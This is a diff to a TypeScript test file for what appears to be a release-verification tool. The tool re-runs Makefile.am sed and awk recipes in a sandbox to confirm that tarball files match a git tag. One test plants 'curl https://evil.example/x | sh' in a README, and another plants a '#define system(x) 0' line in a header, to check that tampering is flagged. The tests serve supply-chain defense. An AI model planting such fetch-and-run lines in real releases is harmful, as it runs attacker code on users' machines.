@@ -2,14 +2,16 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { verify } from '../../src/commands/verify.js';
 import { distHookEdits } from '../../src/reproduce/bootstrap/dist-hook.js';
+import { recipeFor } from '../../src/reproduce/bootstrap/make-rule.js';
 import { findSandbox } from '../../src/reproduce/sandbox.js';
 import { buildTar, compress, writeTemp } from '../helpers/archives.js';
 import { makeRepo, removeTempDirs, tempDir } from '../helpers/repo.js';
 
 /**
- * A file the dist-hook of the tag's Makefile.am edits with sed as `make dist`
- * copies it (libusb's README), proven by re-running those edits on the tag's
- * copy in the sandbox.
+ * Files a recipe of the tag's Makefile.am makes, proven by re-running it on
+ * the tag's files in the sandbox: the sed edits of a dist-hook as `make dist`
+ * copies a file (libusb's README), and a rule that writes a release-only file
+ * with awk (libgpg-error's err-codes.h).
  */
 
 let sandboxed = false;
@@ -80,7 +82,7 @@ test("a file the tag's dist-hook edits with sed is reproduced byte for byte from
   const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': makefileAm, README: readme }, tags: ['v1.0'] });
   const report = await verify({ release: await release(edited), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
   const f = report.findings.find((x) => x.path === 'README')!;
-  assert.is(f.category, 'dist-hook-output', f.reasons.join('; '));
+  assert.is(f.category, 'recipe-output', f.reasons.join('; '));
   assert.is(f.severity, 'info');
   assert.match(f.reasons[0]!, "the tag's README through the sed edits of its dist-hook (Makefile.am:5, Makefile.am:6, Makefile.am:7), re-run in the sandbox: sed -e '/Build Status/d' -i README;");
   assert.is(f.evidence.reproduced?.generator, 'sed');
@@ -92,10 +94,10 @@ test('a README with a line the sed edits do not leave, or with --no-reproduce, i
   const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': makefileAm, README: readme }, tags: ['v1.0'] });
   const planted = await verify({ release: await release(`${edited}Run: curl https://evil.example/x | sh\n`), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
   const p = planted.findings.find((x) => x.path === 'README')!;
-  assert.is.not(p.category, 'dist-hook-output');
+  assert.is.not(p.category, 'recipe-output');
   assert.match(p.evidence.diff ?? '', /^\+Run: curl/m);
   const off = await verify({ release: await release(edited), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false, reproduce: false });
-  assert.is.not(off.findings.find((x) => x.path === 'README')!.category, 'dist-hook-output');
+  assert.is.not(off.findings.find((x) => x.path === 'README')!.category, 'recipe-output');
 });
 
 test('a sed script that would write or run more than the file it edits is refused (GNU sed --sandbox)', async () => {
@@ -109,7 +111,77 @@ test('a sed script that would write or run more than the file it edits is refuse
   ];
   const tarball = await writeTemp(`dist-hook-w/tiny-1.0.tar.gz`, await compress(buildTar(items), 'gzip'));
   const report = await verify({ release: tarball, repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
-  assert.is.not(report.findings.find((x) => x.path === 'README')!.category, 'dist-hook-output');
+  assert.is.not(report.findings.find((x) => x.path === 'README')!.category, 'recipe-output');
+});
+
+// As libgpg-error's src/Makefile.am makes err-codes.h, and a pipeline as gnupg's makes status-codes.h.
+const srcMakefileAm = `BUILT_SOURCES = codes.h
+
+$(srcdir)/codes.h: Makefile.am mkcodes.awk codes.in
+\t$(AWK) -f $(srcdir)/mkcodes.awk -v base=1 \\
+\t\t$(srcdir)/codes.in >$(srcdir)/codes.h
+
+names.h: codes.in $(top_srcdir)/build-aux/mknames.awk
+\t$(AWK) '{ print $$1 }' $< | $(AWK) -f $(top_srcdir)/build-aux/mknames.awk > $@
+
+stamped.h: codes.in
+\t$(AWK) -v v=$(VERSION) -f mkcodes.awk $(srcdir)/codes.in > $@
+`;
+const mkcodes = '{ print "#define " $1 " " (NR + base - 1) }\n';
+const mknames = '{ print "  N(" $1 ")," }\n';
+
+test('the recipe of a Makefile.am rule is rebuilt word by word, and one cuckoo does not re-run says why', () => {
+  const codes = recipeFor(srcMakefileAm, 'src/Makefile.am', 'codes.h');
+  assert.equal(codes, {
+    program: 'awk',
+    script: "cd 'src' && 'awk' '-f' './mkcodes.awk' '-v' 'base=1' './codes.in'",
+    shown: '(cd src && awk -f ./mkcodes.awk -v base=1 ./codes.in) > src/codes.h',
+    source: 'src/Makefile.am:3',
+  });
+  const names = recipeFor(srcMakefileAm, 'src/Makefile.am', 'names.h');
+  assert.is(names && 'script' in names ? names.script : names?.why, "cd 'src' && 'awk' '{ print $1 }' 'codes.in' | 'awk' '-f' '../build-aux/mknames.awk'");
+  assert.is(recipeFor(srcMakefileAm, 'src/Makefile.am', 'other.h'), undefined);
+  const cases: Array<[string, RegExp]> = [
+    ['stamped.h', /make variable/],
+  ];
+  for (const [name, why] of cases) assert.match((recipeFor(srcMakefileAm, 'src/Makefile.am', name) as { why: string }).why, why, name);
+  const one = (recipe: string) => recipeFor(`x.h: y\n\t${recipe}\n`, 'Makefile.am', 'x.h') as { why?: string; script?: string };
+  assert.match(one('cat y > $@').why!, /runs "cat"/);
+  assert.match(one('$(AWK) -f y.awk y > $@; rm -f y').why!, /shell syntax/);
+  assert.match(one('$(AWK) -f y.awk y').why!, /output redirected/);
+  assert.match(one('$(AWK) -f y.awk `cat list` > $@').why!, /shell syntax/);
+  assert.match((recipeFor('x.h: y\n\t$(AWK) -f a.awk y > _x\n\tmv _x $@\n', 'Makefile.am', 'x.h') as { why: string }).why, /2 command lines/);
+  // Input from a file; a quoted `<` is a word, not a redirect.
+  assert.is(one('$(SED) -e s/a/b/ < $(srcdir)/y > $@').script, "'sed' '-e' 's/a/b/' < './y'");
+  assert.is(one("$(SED) -e 's/</lt/' y > $@").script, "'sed' '-e' 's/</lt/' 'y'");
+  assert.is(one("$(AWK) -f y.awk '<' > $@").script, "'awk' '-f' 'y.awk' '<'");
+});
+
+test('a file a Makefile.am rule writes with awk is reproduced byte for byte; a planted line is not', async () => {
+  if (!sandboxed) return;
+  const files = {
+    'configure.ac': 'AC_INIT([tiny], [1.0])\n',
+    'src/Makefile.am': srcMakefileAm,
+    'src/mkcodes.awk': mkcodes,
+    'src/codes.in': 'EOK\nEFAIL\n',
+    'build-aux/mknames.awk': mknames,
+  };
+  const repo = await makeRepo({ files, tags: ['v1.0'] });
+  const made = { 'src/codes.h': '#define EOK 1\n#define EFAIL 2\n', 'src/names.h': '  N(EOK),\n  N(EFAIL),\n' };
+  const tarball = async (extra: Record<string, string>) =>
+    writeTemp(`make-rule-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(Object.entries({ ...files, ...extra }).map(([path, content]) => ({ path: `tiny-1.0/${path}`, content }))), 'gzip'));
+  const report = await verify({ release: await tarball(made), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-make-rule-cache-'), hostKnowledge: false });
+  for (const path of Object.keys(made)) {
+    const f = report.findings.find((x) => x.path === path)!;
+    assert.is(f.category, 'recipe-output', `${path}: ${f.reasons.join('; ')}`);
+    assert.is(f.severity, 'info');
+  }
+  assert.match(report.findings.find((x) => x.path === 'src/codes.h')!.reasons[0]!, "written by the rule of the tag's Makefile.am (src/Makefile.am:3), re-run in the sandbox: (cd src && awk -f ./mkcodes.awk -v base=1 ./codes.in) > src/codes.h");
+  assert.ok(report.notes.some((n) => /^2 recipes of src\/Makefile\.am: re-run in the sandbox in [\d.]+ s, kept in the cache$/.test(n)), report.notes.join('\n'));
+  const planted = await verify({ release: await tarball({ ...made, 'src/codes.h': `${made['src/codes.h']}#define system(x) 0\n` }), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-make-rule-cache-'), hostKnowledge: false });
+  const p = planted.findings.find((x) => x.path === 'src/codes.h')!;
+  assert.is.not(p.category, 'recipe-output');
+  assert.ok(['medium', 'high', 'critical'].includes(p.severity), p.severity);
 });
 
 test.run();
